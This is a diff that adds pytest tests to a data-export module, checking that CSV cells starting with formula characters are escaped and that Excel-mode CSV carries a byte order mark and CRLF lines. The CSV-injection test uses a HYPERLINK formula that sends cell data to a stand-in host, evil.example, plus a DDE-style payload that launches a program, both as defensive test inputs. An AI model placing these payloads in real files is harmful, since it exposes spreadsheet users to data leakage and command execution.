@@ -370,3 +370,46 @@ def test_export_reads_a_shared_postgresql_database(pg_engine: Engine, tmp_path: 
         result = dry_run(pg_engine, ExportOptions(format=fmt, filters=filters))
         assert (result.read, result.written) == (3, 3)
         assert count_reviewed(pg_engine, filters) == 3
+
+
+FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+
+
+def test_csv_cells_a_spreadsheet_would_run_are_neutralised(engine: Engine, tmp_path: Path) -> None:
+    """OWASP CSV injection: text starting with = + - @ TAB or CR becomes plain text."""
+    import pandas as pd
+
+    batch = add_batch(engine)
+    hostile = add_sample(
+        engine, batch, n=1, output=FORMULA, input_text="@SUM(1+1)*cmd|' /C calc'!A0"
+    )
+    add_review(engine, hostile, "ana", verdict="bad", correction="-2+3", note="\tnote", rating=1)
+    export(engine, tmp_path, "reviews.csv", format="csv")
+    with (tmp_path / "reviews.csv").open(encoding="utf-8", newline="") as handle:
+        [row] = list(csv.DictReader(handle))
+    assert row["output"] == "'" + FORMULA
+    assert row["input_text"].startswith("'@SUM")
+    assert row["note"] == "'\tnote"
+    assert row["correction"] == "'-2+3"
+    frame = pd.read_csv(tmp_path / "reviews.csv")
+    assert frame.loc[0, "output"] == "'" + FORMULA
+    assert frame.loc[0, "rating"] == 1  # numbers stay numbers
+    manifest = json.loads((tmp_path / "reviews.csv.manifest.json").read_text(encoding="utf-8"))
+    assert "OWASP" in manifest["options"]["csv"]["formula_cells"]
+    assert manifest["options"]["csv"]["excel"] is False
+
+
+def test_excel_csv_has_a_byte_order_mark_and_crlf_lines(
+    engine: Engine, store: dict[str, uuid.UUID], tmp_path: Path
+) -> None:
+    import pandas as pd
+
+    export(engine, tmp_path, "plain.csv", format="csv")
+    export(engine, tmp_path, "excel.csv", format="csv", excel=True)
+    plain, excel = (tmp_path / "plain.csv").read_bytes(), (tmp_path / "excel.csv").read_bytes()
+    assert not plain.startswith(b"\xef\xbb\xbf") and b"\r\n" not in plain
+    assert excel.startswith(b"\xef\xbb\xbf")
+    assert excel.count(b"\r\n") == excel.count(b"\n")  # every line ends in CRLF
+    frame = pd.read_csv(tmp_path / "excel.csv", encoding="utf-8-sig")
+    assert frame.columns[0] == "sample_id"  # the mark is not part of the first name
+    assert frame["correction"].str.contains("Bestätigung").any()
